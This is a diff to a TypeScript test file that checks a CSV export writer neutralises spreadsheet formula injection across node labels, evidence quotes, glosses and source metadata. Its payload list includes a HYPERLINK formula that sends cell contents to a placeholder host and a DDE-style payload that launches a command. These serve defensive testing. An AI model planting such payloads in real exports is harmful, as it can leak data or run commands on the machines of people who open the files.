@@ -7,7 +7,7 @@ import { describe, expect, it } from "vitest";
 import type { WireGraph } from "../../server/domain/wire";
 import { exportFileName } from "../../server/export/formats";
 import type { ExportInput } from "../../server/export/types";
-import { csvField, writeCsvZip } from "../../server/export/writers/csv";
+import { csvField, FORMULA_TRIGGERS, neutraliseFormula, writeCsvZip } from "../../server/export/writers/csv";
 import {
   cypherName,
   cypherString,
@@ -110,6 +110,79 @@ describe("JSON writer", () => {
     g.import(parsed);
     expect(g.getEdgeAttribute("org:deepseek|STATES|claim:x", "evidence")).toEqual(evidence);
     expect(g.getAttribute("sources")).toEqual(input.sources);
+  });
+});
+
+/** Unzips a writer's chunks into file name → text. */
+function unzipText(chunks: Iterable<Uint8Array>): Record<string, string> {
+  const bytes = [...chunks];
+  const all = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
+  let at = 0;
+  for (const b of bytes) {
+    all.set(b, at);
+    at += b.length;
+  }
+  return Object.fromEntries(Object.entries(unzipSync(all)).map(([name, data]) => [name, strFromU8(data)]));
+}
+
+describe("CSV writer: spreadsheet formulas", () => {
+  const payloads = ['=HYPERLINK("http://x.example/?"&A1,"click")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "x"];
+  const variants = [...FORMULA_TRIGGERS].flatMap((t) => payloads.map((p) => `${t}${p}`));
+
+  it("should prefix every text that starts with a formula trigger, whatever follows", () => {
+    for (const v of variants) {
+      expect(neutraliseFormula(v)).toBe(`'${v}`);
+      const field = csvField(v, true);
+      expect(field.replace(/^"/, "").startsWith("'")).toBe(true);
+    }
+  });
+
+  it("should leave numbers, booleans, Arabic and ordinary text unchanged", () => {
+    expect(csvField(-12.5, true)).toBe("-12.5");
+    expect(csvField(-3, true)).toBe("-3");
+    expect(csvField(true, true)).toBe("true");
+    for (const text of ["DeepSeek", "ديب سيك", "'already quoted", " =leading space", "a=b", "48%"]) {
+      expect(neutraliseFormula(text)).toBe(text);
+    }
+  });
+
+  it("should neutralise names, quotes, glosses and source metadata in every file of the zip", () => {
+    const attack = (i: number) => variants[i % variants.length] as string;
+    const hostile: ExportInput = {
+      generatedAt: "2026-11-29T00:00:00.000Z",
+      graph: {
+        ...graph,
+        nodes: graph.nodes.map((n, i) => ({
+          key: n.key,
+          attributes: { ...n.attributes, label: attack(i), labelAr: attack(i + 7) },
+        })),
+        edges: graph.edges.map((e, i) => ({
+          ...e,
+          attributes: {
+            ...e.attributes,
+            evidence: [{ sourceId: "src", quote: attack(i + 3), start: 0, end: 5, gloss: attack(i + 11) }],
+          },
+        })),
+      },
+      sources: [{ id: "src", title: attack(1), publisher: attack(2), url: attack(4) }],
+    };
+    const files = unzipText(writeCsvZip(hostile, { bom: false }));
+    for (const text of Object.values(files)) {
+      // No field may start with a trigger: after a line start, a comma, or an opening quote of a quoted field.
+      for (const t of FORMULA_TRIGGERS) {
+        if (t === "\r") continue; // CRLF ends every record; a CR inside a field is always quoted and prefixed.
+        expect(text).not.toMatch(new RegExp(`(^|\\r\\n|,)"?${t.replace(/[+\\]/g, "\\$&")}`, "m"));
+      }
+    }
+    expect(files["nodes.csv"]).toContain(csvField(`'${attack(0)}`));
+  });
+
+  it("should keep values exact when neutralisation is off (for a CSV meant to rebuild data)", () => {
+    expect(csvField("=1+1", false)).toBe("=1+1");
+    const files = unzipText(
+      writeCsvZip({ ...input, sources: [{ id: "src", title: "=1+1" }] }, { bom: false, neutraliseFormulas: false }),
+    );
+    expect(files["sources.csv"]).toContain("src,=1+1");
   });
 });
 
